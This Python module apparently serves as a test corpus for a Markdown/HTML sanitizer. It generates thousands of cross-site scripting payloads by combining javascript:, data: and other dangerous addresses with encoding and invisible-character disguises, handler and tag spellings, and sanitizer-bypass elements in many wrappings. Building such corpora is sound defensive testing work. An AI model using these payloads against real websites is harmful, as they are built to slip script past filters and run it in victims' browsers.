"""Payloads of cross-site scripting: every dangerous address, disguised in every way, in every place
where Markdown or HTML takes one; every handler in every spelling; every element in every wrapping.

They are written out here from the rules of HTML and URLs, since the large collections have licences
that do not let us copy them.
"""

from __future__ import annotations

from itertools import product

_ADDRESSES = (
    "javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "blob:https://example.org/1f",
    "view-source:javascript:alert(1)",
    "//example.org/script.js",
    "java&#115;cript:alert(1)",
)
_DISGUISES = (
    lambda url: url,
    str.upper,
    str.swapcase,
    lambda url: f" \x01\x1f{url}",
    lambda url: f"\N{ZERO WIDTH NO-BREAK SPACE}{url}",
    lambda url: f"{url[:4]}\t{url[4:]}",
    lambda url: f"{url[:4]}\n{url[4:]}",
    lambda url: f"{url[:4]}\0{url[4:]}",
    lambda url: f"{url[:4]}\N{ZERO WIDTH SPACE}{url[4:]}",
    lambda url: f"{url[:4]}\N{SOFT HYPHEN}\N{RIGHT-TO-LEFT OVERRIDE}{url[4:]}",
    lambda url: f"{url[:4]}&Tab;&NewLine;{url[4:]}",
    lambda url: url.replace(":", "&colon;").replace("(", "&lpar;"),
    lambda url: url.replace(":", "\\:").replace("(", "\\("),
    lambda url: url.replace(":", "\N{FULLWIDTH COLON}"),
    lambda url: url.replace(":", "%3A").replace("a", "%61"),
    lambda url: url.replace(":", "%253A"),
    lambda url: "".join(f"&#{ord(c)};" for c in url[:12]) + url[12:],
    lambda url: "".join(f"&#x{ord(c):07x}" for c in url[:12]) + url[12:],
    lambda url: f"https:{url}",
)
_PLACES = (
    "[a]({})",
    "[a](<{}>)",
    "![a]({} 'title')",
    "<{}>",
    "see {} and [{}]",
    "[a]\n\n[a]: {}",
    "[![a]({})]({})",
    "a[^1]\n\n[^1]: [b]({})",
    "| a |\n|---|\n| [b]({}) |",
    "> - **[a]({})**",
    "```{}\na\n```",
    '<a href="{}">a</a>',
    "a <img src={} srcset='{} 2x'> b",
    "<iframe src='{}'></iframe>",
    "<svg><use href='{}'/><a xlink:href='{}'>a</a></svg>",
    "<form action={}><button formaction='{}'>a</button></form>",
)
_TAGS = (
    "a",
    "body",
    "details",
    "img",
    "input",
    "marquee",
    "math",
    "select",
    "svg",
    "textarea",
    "video",
    "x-own",
)
_EVENTS = (
    "onanimationstart",
    "onbeforetoggle",
    "onbegin",
    "onclick",
    "onerror",
    "onfocus",
    "onload",
    "onmouseover",
    "onpointerenter",
    "ontoggle",
)
_SPELLINGS = (
    "<{tag} {event}=alert(1)>",
    '<{tag} {event}="alert(1)">a</{tag}>',
    "<{tag}/{event}='alert(1)'/>",
    "<{tag}\n{event}\n=\nalert`1`\n>",
    "a <{tag} src=x {event}=alert(1)//",
    "<{tag} title='>' {event}=&#97;lert(1)>",
    "<{tag}\f\0{event}=alert(1)>",
    "<{tag} id=x tabindex=1 autofocus style=animation-name:a {event}=alert(1)>#x",
    "[<{tag} {event}=alert(1)>](https://example.org/?<{tag} {event}=alert(1)>)",
    '![a](https://example.org/a "\'\\" {event}=alert(1)><{tag} {event}=alert(1)>")',
)
_ELEMENTS = (
    "<script>alert(1)</script>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=//example.org/a.swf>",
    "<base href=//example.org/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//example.org/a.css>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><a title='</title><script>alert(1)</script>'>",
    "<xmp><p title='</xmp><script>alert(1)</script>'>",
    "<plaintext><script>alert(1)</script>",
    "<math><mtext><mglyph><style><!--</style><img src=x onerror=alert(1)>-->",
    "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1)>",
    "<img name=body><form id=cookie><input name=parentNode>",
    "<portal src=javascript:alert(1)>",
    "<div style='position:fixed;inset:0;width:expression(alert(1))'>a</div>",
)
_WRAPPINGS = (
    "{}",
    "<!-- {} -->",
    "<!--> {}",
    "<![CDATA[ {} ]]>",
    "<?{}?>",
    "<<{}",
    "`{}",
    "`` ` {} ``",
    "~~~html\n{}",
    "# {}\n{}\n===",
    "[{}]({})",
    '[a][b]\n\n[b]: /c "{}"',
    "![{}](https://example.org/{})",
    "a[^{}]\n\n[^{}]: {}",
    "| {} |\n|---|\n| {}",
    "$$\n\\href{{javascript:alert(1)}}{{{}}}\n$$ ${}$",
    "<details><summary>{}\n\n{}</details>",
    "&lt;b&gt;{}\\<b>",
)


def _fill(place: str, text: str) -> str:
    return place.format(*[text] * place.count("{}"))


_ALL = (
    *(_fill(place, hide(url)) for url, hide, place in product(_ADDRESSES, _DISGUISES, _PLACES)),
    *(spelling.format(tag=tag, event=event) for tag, event, spelling in product(_TAGS, _EVENTS, _SPELLINGS)),
    *(_fill(wrapping, element) for element, wrapping in product(_ELEMENTS, _WRAPPINGS)),
)
PAYLOADS = list(dict.fromkeys(_ALL))  # Not every disguise changes every address.
